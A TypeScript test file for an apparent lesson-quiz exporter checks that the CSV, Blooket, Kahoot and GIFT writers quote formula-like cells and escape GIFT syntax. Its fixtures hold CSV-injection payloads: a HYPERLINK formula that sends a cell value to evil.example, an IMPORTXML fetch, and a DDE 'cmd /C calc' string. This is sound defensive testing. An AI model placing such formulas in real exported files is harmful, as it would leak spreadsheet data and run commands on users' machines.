// Files whose text starts like a spreadsheet formula: no CSV or XLSX cell we write may be one (OWASP
// CSV injection: a leading quote), numbers stay numbers, and GIFT keeps its syntax characters as text.
import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import { parse as parseGift, type GIFTQuestion } from 'gift-pegjs';
import type { GeneratedDocument } from '@lessonloom/contracts';
import { exportQuiz } from '../lms.items';
import { writeBlooket } from '../lms.blooket-writer';
import { writeCsv } from '../lms.csv-writer';
import { writeGift } from '../lms.gift-writer';
import { writeKahoot } from '../lms.kahoot-writer';
import { spreadsheetText } from '../lms.spreadsheet-cell';

const LINK = '=HYPERLINK("https://evil.example/?key="&E2,"Open")';
const FETCH = '=IMPORTXML("https://evil.example/"&E3,"//a")';
const PAYLOADS = [LINK, FETCH, '+SUM(1,2)', "-2+3+cmd|' /C calc'!A0", '@SUM(A1:A9)', '\t=1+1', '\r=1+1', ' =1+1'];
const NUMBERS = ['-5', '+3.5', '-1,250', '12%', '-3/4', '-0.25'];

const HOSTILE: GeneratedDocument = {
  kind: 'quiz',
  title: '=HYPERLINK("https://evil.example","Quiz")',
  subject: 'Math',
  difficulty: 'mixed',
  include_answer_key: true,
  offline_draft: true,
  source: { type: 'file', name: 'hostile.txt' },
  sections: [
    {
      heading: '=1+1',
      blocks: [
        ...PAYLOADS.map((p, i) => ({
          type: 'question' as const,
          number: i + 1,
          question_type: 'multiple_choice' as const,
          prompt: p,
          options: [p, '@SUM(B1)', '-5', '%50% of it'],
          answer: p,
          explanation: '+HYPERLINK("https://evil.example")',
          source_passage: FETCH,
        })),
        ...NUMBERS.map((n, i) => ({
          type: 'question' as const,
          number: PAYLOADS.length + i + 1,
          question_type: 'short_answer' as const,
          prompt: `What is the value? (${i})`,
          answer: n,
          answer_lines: 1,
        })),
        {
          type: 'question' as const,
          number: 20,
          question_type: 'true_false' as const,
          prompt: '-1 is less than 0 =TRUE',
          options: ['True', 'False'],
          answer: 'True',
        },
        {
          type: 'question' as const,
          number: 21,
          question_type: 'short_answer' as const,
          prompt: 'Weights: ~ = # { } : and 50% of 80',
          answer: '%50% of {x}~=#:y',
          answer_lines: 1,
        },
      ],
    },
    {
      heading: 'Match',
      blocks: [
        { type: 'matching', start_number: 22, left: ['=A1', '%100%'], right: ['+B2', '-C3 x'], answers: [0, 1] },
      ],
    },
  ],
};

/** A cell a spreadsheet would run: starts (after spaces) with = + - @, or with a tab or CR. */
const runnable = (cell: string) => /^\s*[=+\-@]|^[\t\r]/.test(cell) && !NUMBERS.includes(cell);

function csvCells(data: Buffer): string[] {
  return (parse(data.toString('utf8').replace(/^\uFEFF/, ''), { relax_column_count: true }) as string[][]).flat();
}

async function xlsxCells(data: Buffer): Promise<string[]> {
  const book = new ExcelJS.Workbook();
  await book.xlsx.load(data as unknown as ArrayBuffer);
  const cells: string[] = [];
  for (const sheet of book.worksheets)
    sheet.eachRow((row) =>
      row.eachCell((c) => {
        // a formula cell would be an object ({formula}); every cell must be a plain value
        expect(typeof c.value === 'object' && c.value !== null).toBe(false);
        cells.push(String(c.value));
      }),
    );
  return cells;
}

// the CSV holds every option of a question in one cell, one per line; the quiz games one answer per cell
const QUOTED_CSV = [`'${LINK}`, `'${FETCH}`, '\'+HYPERLINK("https://evil.example")'];
const QUOTED_GAMES = [`'${LINK}`, "'@SUM(B1)", "'-2+3+cmd|' /C calc'!A0"];

describe.each([
  ['CSV', async () => csvCells(writeCsv(exportQuiz(HOSTILE))), QUOTED_CSV],
  ['Blooket', async () => csvCells(writeBlooket(exportQuiz(HOSTILE)).data), QUOTED_GAMES],
  ['Kahoot', async () => xlsxCells((await writeKahoot(exportQuiz(HOSTILE))).data), QUOTED_GAMES],
])('%s: a file whose lines start with formulas', (_format, cellsOf, quoted) => {
  it('holds no cell a spreadsheet would run, and every hostile text with a leading quote', async () => {
    const cells = await cellsOf();
    expect(cells.filter(runnable)).toEqual([]);
    expect(cells).toEqual(expect.arrayContaining(quoted));
    // the text is all still there, behind its quote
    expect(cells.some((c) => c.includes('https://evil.example/?key='))).toBe(true);
  });

  it('keeps numbers as numbers', async () => {
    const cells = await cellsOf();
    expect(cells).toContain('-5');
    expect(cells.filter((c) => c.startsWith("'-5") || c.startsWith("'+3.5"))).toEqual([]);
  });
});

it('CSV: the typed answers that are numbers stay numbers, each in its own row', () => {
  const rows = parse(
    writeCsv(exportQuiz(HOSTILE))
      .toString('utf8')
      .replace(/^\uFEFF/, ''),
  ) as string[][];
  const answers = rows.filter((r) => r[1] === 'Short Answer').map((r) => r[4]);
  expect(answers.slice(0, NUMBERS.length)).toEqual(NUMBERS);
});

it('spreadsheetText: formulas, control starts and leading spaces quoted; plain numbers and text untouched', () => {
  expect(PAYLOADS.map(spreadsheetText)).toEqual(PAYLOADS.map((p) => `'${p}`));
  expect(NUMBERS.map(spreadsheetText)).toEqual(NUMBERS);
  for (const plain of ['Photosynthesis', '3 + 4 = 7', 'a-b', '', '—', '½']) expect(spreadsheetText(plain)).toBe(plain);
  expect(spreadsheetText('- a bullet')).toBe("'- a bullet");
});

describe('GIFT with the format’s own syntax in every answer', () => {
  const gift = writeGift(exportQuiz(HOSTILE), 'Math').toString('utf8');
  const questions = parseGift(gift).slice(1) as Exclude<GIFTQuestion, { type: 'Category' | 'Description' }>[];

  it('parses as one question per item, and no answer takes a weight from its text', () => {
    expect(questions).toHaveLength(exportQuiz(HOSTILE).items.length);
    for (const q of questions)
      if ('choices' in q && Array.isArray(q.choices))
        for (const c of q.choices as { weight: number | null }[]) expect(c.weight).toBeNull();
  });

  it('writes ~ = # { } : escaped wherever they appear and a leading % escaped, and reads them back as text', () => {
    expect(gift).not.toMatch(/(^|[^\\])[~=]%\d/m);
    const weights = questions.find((q) => q.title === 'Q21') as Extract<GIFTQuestion, { type: 'Short' }>;
    expect(weights.stem.text).toBe('Weights: ~ = # { } : and 50% of 80');
    // gift-pegjs (like Moodle's importer) keeps the backslash of \% as text; the syntax characters come back clean
    expect(weights.choices.map((c) => c.text.text)).toEqual(['\\%50% of {x}~=#:y']);
    const mc = questions.find((q) => q.title === 'Q1') as Extract<GIFTQuestion, { type: 'MC' }>;
    expect(mc.choices.map((c) => c.text.text)).toEqual([LINK, '@SUM(B1)', '-5', '\\%50% of it']);
    expect(mc.choices.filter((c) => c.isCorrect).map((c) => c.text.text)).toEqual([LINK]);
  });
});
